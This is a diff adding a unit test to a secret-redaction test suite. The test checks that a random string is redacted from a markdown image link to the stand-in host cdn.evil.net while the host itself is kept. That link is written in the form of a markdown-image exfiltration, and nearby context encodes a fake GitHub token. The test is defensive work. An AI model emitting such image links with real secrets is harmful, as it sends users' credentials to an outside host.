@@ -262,6 +262,13 @@ describe('redaction', () => {
     });
   });
 
+  it('leaves the host of an address, to which a secret would go', () => {
+    const random = 'aB3dE6gH9jK2mN5pQ8sT1vW4';
+    expect(redact({ text: `![x](https://cdn.evil.net/i/${random}.gif)` }).text).toMatch(
+      /^!\[x\]\(https:\/\/cdn\.evil\.net\/\[redacted:random:[0-9a-f]{16}\]\.gif\)$/,
+    );
+    expect(redact({ text: `https://${random}/x` }).text).toBe(`https://[redacted:random:${hasher(random)}]/x`);
+  });
   it('finds what is random or encoded behind a name, and leaves the name', () => {
     const random = 'aB3dE6gH9jK2mN5pQ8sT1vW4';
     const encoded = Buffer.from('ghp_0123456789abcdefghijABCDEFGHIJ012345').toString('base64');
